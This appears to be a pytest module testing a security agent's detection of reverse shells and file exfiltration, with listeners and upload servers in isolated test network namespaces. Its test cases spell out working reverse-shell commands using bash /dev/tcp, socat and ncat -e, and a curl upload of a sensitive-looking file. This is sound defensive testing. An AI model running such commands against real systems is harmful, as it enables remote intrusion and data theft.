"""reverse_shell and exfiltration with the real sensors, real tools and test namespaces.

Reverse shells connect to a listener in a test namespace, which sends `exit` once the test
has seen the detection (a shell that lives shorter than the agent takes to look at it cannot
be examined: /proc no longer has it). The sensitive file lives in a directory this module
adds to process.sensitive_prefixes; the upload goes to an HTTP server in a namespace.
Benign controls run in the same agent: a shell on a pseudo-terminal that no network process
holds, and an upload of an ordinary file; they yield no detection.
"""

from __future__ import annotations

import contextlib
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from harness import Agent, NetNs, peer

from otelpeers.config import Config
from otelpeers.detect.model import Detection, EvidenceKind
from otelpeers.events import Kind, ProcessEvent

pytestmark = pytest.mark.kernel
PYTHON = sys.executable

# A reverse-shell listener: accepts one connection, sends "exit" when told on stdin.
LISTENER = r"""
import socket, sys
s = socket.socket(); s.bind((sys.argv[1], 0)); s.listen(4)
print("READY", s.getsockname()[1], flush=True)
c, _ = s.accept()
print("ACCEPTED", flush=True)
sys.stdin.readline()
c.sendall(b"exit\n")
c.settimeout(20)
n = 0
try:
    while chunk := c.recv(4096):
        n += len(chunk)
except OSError:
    pass
print("CLOSED", n, flush=True)
"""

# An HTTP server taking uploads (POST bodies are read and dropped).
UPLOAD_SERVER = r"""
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        left = int(self.headers.get("Content-Length", 0))
        while left > 0:
            b = self.rfile.read(min(65536, left))
            if not b:
                break
            left -= len(b)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer((sys.argv[1], 0), H)
print("READY", srv.server_address[1], flush=True)
srv.serve_forever()
"""

# Reads a file, sends it, and keeps the connection open until told on stdin.
HOLD_OPEN = r"""
import socket, sys, time
data = open(sys.argv[1], "rb").read()
c = socket.create_connection((sys.argv[2], int(sys.argv[3])))
c.sendall(data)
print("SENT", time.time_ns(), flush=True)
sys.stdin.readline()
c.close()
"""

# A shell on a pseudo-terminal held by a process with no network at all.
PTY_CONTROL = r"""
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-i"])
print("CHILD", pid, flush=True)
sys.stdin.readline()
os.write(fd, b"exit\n")
try:
    while os.read(fd, 1024):
        pass
except OSError:
    pass
os.waitpid(pid, 0)
"""


def _readline(p: subprocess.Popen[str], timeout: float = 20.0) -> str:
    out: list[str] = []
    t = threading.Thread(target=lambda: out.append(p.stdout.readline()), daemon=True)
    t.start()
    t.join(timeout)
    assert out, f"no line from {p.args!r} within {timeout}s"
    return out[0].strip()


class Driven:
    """A helper process we talk to on stdin/stdout; killed on exit."""

    def __init__(self, argv: list[str]) -> None:
        self.p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True)

    def expect(self, word: str) -> list[str]:
        line = _readline(self.p)
        assert line.startswith(word), f"expected {word}, got {line!r} " + (
            self.p.stderr.read() if self.p.poll() is not None else "")
        return line.split()[1:]

    def go(self) -> None:
        self.p.stdin.write("go\n")
        self.p.stdin.flush()

    def kill(self) -> None:
        if self.p.poll() is None:
            self.p.kill()
        self.p.wait(10)


@contextlib.contextmanager
def driven(argv: list[str]) -> Iterator[Driven]:
    d = Driven(argv)
    try:
        yield d
    finally:
        d.kill()


def children(pid: int) -> list[int]:
    try:
        return [int(x) for x in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


@pytest.fixture(scope="module")
def secrets() -> Iterator[Path]:
    d = Path(tempfile.mkdtemp(prefix="otpx-", dir="/tmp"))
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def magent(secrets: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Agent]:
    base = Config()
    cfg = replace(base, process=replace(
        base.process, sensitive_prefixes=(*base.process.sensitive_prefixes, f"{secrets}/")),
        detect=replace(base.detect, state_dir=str(tmp_path_factory.mktemp("state"))))
    a = Agent(cfg)
    try:
        yield a
    finally:
        a.stop()


def _about(d: Detection, pids: set[int]) -> bool:
    return d.actor.pid in pids


def _shell_pid(parent: int, timeout: float = 10.0) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        kids = children(parent)
        if kids:
            return kids[0]
        time.sleep(0.02)  # /proc has no event to wait on; the child appears within ms
    raise AssertionError(f"process {parent} started no child")


def _pty_control(agent: Agent) -> tuple[Driven, int]:
    ctl = Driven([PYTHON, "-c", PTY_CONTROL])
    (child,) = ctl.expect("CHILD")
    pid = int(child)
    agent.wait_event(lambda e: isinstance(e, ProcessEvent) and e.kind == Kind.EXEC
                     and e.tgid == pid)
    return ctl, pid


def _reverse_shell(agent: Agent, ns: NetNs, argv: list[str]
                   ) -> tuple[Detection, subprocess.Popen[bytes], Driven]:
    lst = Driven(ns.cmd(PYTHON, "-c", LISTENER, ns.ns_ip))
    (port,) = lst.expect("READY")
    proc = subprocess.Popen([a.replace("PORT", port) for a in argv],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    lst.expect("ACCEPTED")
    d = agent.wait_detection(lambda d: d.rule.name == "reverse_shell" and d.peer is not None
                             and d.peer.address == ns.ns_ip and d.peer.port == int(port))
    return d, proc, lst


def _finish(proc: subprocess.Popen[bytes], lst: Driven) -> None:
    lst.go()
    assert lst.expect("CLOSED")
    proc.wait(15)


def test_dev_tcp_reverse_shell(magent: Agent, ns: NetNs) -> None:
    ctl, ctl_shell = _pty_control(magent)
    try:
        d, proc, lst = _reverse_shell(
            magent, ns, ["bash", "-c", f"bash -i >& /dev/tcp/{ns.ns_ip}/PORT 0>&1"])
        try:
            shells = {proc.pid, *children(proc.pid)}
            ev = d.evidence
            assert d.actor.pid in shells and d.actor.owner.comm == "bash"
            assert ev["mode"] == "socket_stdio" and ev["holder_relation"] == "self"
            assert ev["direction"] == "outbound" and ev["stdio"] == ("socket",) * 3
            assert d.evidence_span is not None and d.evidence_span.kind == EvidenceKind.FLOW
            assert d.evidence_span.ident == ev["flow_id"]
        finally:
            _finish(proc, lst)
        # The connection span the alert points at is the shell's own connection.
        f = magent.wait_flow(lambda r: r.flow_id == d.evidence["flow_id"])
        assert f.owner.tgid == d.actor.pid and f.peer_addr == ns.ns_ip
        mine = [x.rule.name for x in magent.detections if _about(x, shells)]
        assert mine == ["reverse_shell"]
        ctl.go()
        ctl.p.wait(15)
        assert not [x for x in magent.detections if _about(x, {ctl.p.pid, ctl_shell})]
    finally:
        ctl.kill()


def test_socat_pty_reverse_shell(magent: Agent, ns: NetNs) -> None:
    ctl, ctl_shell = _pty_control(magent)
    try:
        d, proc, lst = _reverse_shell(
            magent, ns, ["socat", "exec:sh -i,pty,stderr,setsid", f"tcp:{ns.ns_ip}:PORT"])
        try:
            shell = _shell_pid(proc.pid)
            ev = d.evidence
            assert d.actor.pid == shell and d.actor.owner.comm == "sh"
            assert ev["mode"] == "terminal_relay" and ev["holder"] == "socat"
            assert ev["holder_pid"] == proc.pid and ev["holder_relation"] == "parent"
            assert ev["direction"] == "outbound" and ev["stdio"] == ("pts",) * 3
            assert d.evidence_span is not None and d.evidence_span.ident == ev["flow_id"]
        finally:
            _finish(proc, lst)
        f = magent.wait_flow(lambda r: r.flow_id == d.evidence["flow_id"])
        assert f.owner.tgid == proc.pid and f.peer_addr == ns.ns_ip
        # Found in the round that announced socat's connection (socat connects after it
        # started the shell): the connection span carries the span event.
        assert [x.rule.name for x in f.detections] == ["reverse_shell"]
        assert ev["seconds_after_exec"] > 0
        mine = [x.rule.name for x in magent.detections if _about(x, {proc.pid, shell})]
        assert mine == ["reverse_shell"]
        ctl.go()
        ctl.p.wait(15)
        assert not [x for x in magent.detections if _about(x, {ctl.p.pid, ctl_shell})]
    finally:
        ctl.kill()


def test_ncat_exec_reverse_shell_names_ncat(magent: Agent, ns: NetNs) -> None:
    d, proc, lst = _reverse_shell(magent, ns, ["ncat", "-e", "/bin/sh", ns.ns_ip, "PORT"])
    try:
        ev = d.evidence
        # Nmap's ncat relays -e programs through pipes (netcat-traditional hands over the
        # socket itself: that is the socket_stdio shape of the /dev/tcp test).
        assert d.actor.pid == _shell_pid(proc.pid) and ev["mode"] == "pipe_relay"
        assert ev["holder"] == "ncat" and ev["holder_pid"] == proc.pid
        assert ev["holder_relation"] == "parent"
    finally:
        _finish(proc, lst)


def test_sensitive_read_then_upload(magent: Agent, ns: NetNs, secrets: Path,
                                   tmp_path: Path) -> None:
    secret = secrets / "customer-db.dump"
    secret.write_bytes(b"s" * 300_000)
    blob = tmp_path / "blob.bin"
    blob.write_bytes(b"b" * 300_000)
    with driven(ns.cmd(PYTHON, "-c", UPLOAD_SERVER, ns.ns_ip)) as srv:
        (port,) = srv.expect("READY")
        url = f"http://{ns.ns_ip}:{port}/up"

        def curl(path: Path) -> subprocess.Popen[bytes]:
            return subprocess.Popen(["curl", "-s", "-o", "/dev/null", "-H", "Expect:",
                                     "--data-binary", f"@{path}", url])

        # The benign control first: the same upload of an ordinary file.
        benign = curl(blob)
        assert benign.wait(30) == 0
        magent.wait_flow(lambda r: r.owner is not None and r.owner.tgid == benign.pid
                         and r.peer_port == int(port))
        bad = curl(secret)
        assert bad.wait(30) == 0
        d = magent.wait_detection(lambda d: d.rule.name == "exfiltration"
                                  and d.actor.pid == bad.pid)
    ev = d.evidence
    assert d.actor.key == "curl" and ev["file_path"] == str(secret)
    assert ev["file_relation"] == "self" and ev["bytes_sent"] >= 300_000
    assert ev["dns"] == "direct_ip" and d.peer.address == ns.ns_ip
    f = magent.wait_flow(lambda r: r.flow_id == d.evidence_span.ident)
    assert f.owner.tgid == bad.pid and f.peer_port == int(port)
    assert [x.rule.name for x in f.detections] == ["exfiltration"]  # the span event
    assert [x.rule.name for x in magent.detections if _about(x, {bad.pid})] == ["exfiltration"]
    assert not [x for x in magent.detections if _about(x, {benign.pid})]


def test_upload_still_open_fires_from_live_counters(magent: Agent, ns: NetNs,
                                                     secrets: Path) -> None:
    secret = secrets / "keys.tar"
    secret.write_bytes(b"k" * 200_000)
    server = peer("tcp-server", ns.ns_ip, str(200_000), "0", ns=ns)
    port = server.ready()
    with driven([PYTHON, "-c", HOLD_OPEN, str(secret), ns.ns_ip, str(port)]) as client:
        (sent_ns,) = client.expect("SENT")
        d = magent.wait_detection(lambda d: d.rule.name == "exfiltration"
                                  and d.actor.pid == client.p.pid)
        latency_s = (time.time_ns() - int(sent_ns)) / 1e9
        # Still open: no completed record of that connection yet.
        assert not [r for r in magent.records if r.flow_id == d.evidence_span.ident]
        client.go()
        assert client.p.wait(15) == 0
    server.finish()
    assert d.evidence["bytes_sent"] >= 200_000 and d.evidence["file_path"] == str(secret)
    # kernel.stats_interval_s is 0.5 s in the harness, ticks every 0.2 s.
    assert latency_s < 2.0, latency_s
    print(f"exfiltration latency while open: {latency_s:.2f} s")
    f = magent.wait_flow(lambda r: r.flow_id == d.evidence_span.ident)
    assert [x.rule.name for x in f.detections] == ["exfiltration"]
